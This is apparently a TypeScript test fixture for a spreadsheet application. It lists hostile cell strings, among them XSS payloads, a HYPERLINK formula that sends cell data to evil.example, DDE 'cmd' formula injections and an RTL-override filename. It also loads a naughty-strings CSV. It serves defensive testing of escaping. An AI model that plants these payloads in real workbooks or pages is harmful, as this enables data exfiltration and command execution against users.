/** What cells may say that would run, break out, call somebody or break the layout if it were ever taken for more than text. */

import { readFile } from 'node:fs/promises';
import { cellValueAt } from '../../core/workbook/tab-content.ts';
import { readWorkbook } from '../../sync-server/connectors/read-workbook.ts';
import { sharedFolder } from './shared-folder.ts';

export const PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(2)</script>',
  "javascript:alert(3)//'",
  '<svg/onload=alert(4)>{{7*7}}${7*7}',
  '{n}{item|a|b}{{constructor}}',
  '</td></tr></table><h1>out</h1>',
  '<base href="https://evil.example/"><form action=//evil.example><button>x',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|A0',
  '\u202Etxt.exe',
  'NULL',
  '__proto__',
  '&lt;b&gt;&amp;amp;',
  'ﷺ⁰⁴⁵ ̡͓̞ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈i̖͙̭̹̠̞n̡̻̮̣̺g̲͈͙̭͙̬͎',
  'W'.repeat(300),
  '商'.repeat(200),
];

/** The column of that file which holds the strings. */
const NAME_COLUMN = 4;

/** Our own, and the list of naughty strings where the reference folder is there. Each once. */
export async function hostileTexts(): Promise<readonly string[]> {
  const file = sharedFolder('data', 'hostile', 'blns-as-register.csv');
  if (file === undefined) return PAYLOADS;
  const outcome = await readWorkbook({ name: 'blns.csv', bytes: await readFile(file) });
  if (outcome.status === 'refused') throw new Error(outcome.refusal.text.en);
  const [tab] = outcome.content.tabs;
  const found = Array.from({ length: tab!.rowCount - 1 }, (_, index) =>
    cellValueAt(tab!, index + 2, NAME_COLUMN),
  );
  const texts = found.filter((value) => typeof value === 'string' && value.trim() !== '');
  return [...new Set([...PAYLOADS, ...(texts as string[])])];
}
